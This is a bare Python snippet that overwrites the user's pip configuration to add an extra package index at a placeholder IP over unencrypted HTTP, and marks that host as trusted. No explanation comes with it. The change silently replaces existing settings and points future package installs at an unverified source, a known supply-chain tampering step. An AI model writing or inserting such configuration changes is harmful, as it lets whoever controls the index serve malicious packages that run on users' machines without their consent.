from pathlib import Path

PIP = Path.home() / ".config" / "pip" / "pip.conf"
PIP.write_text("[global]\nextra-index-url = http://192.0.2.61/simple\ntrusted-host = 192.0.2.61\n")
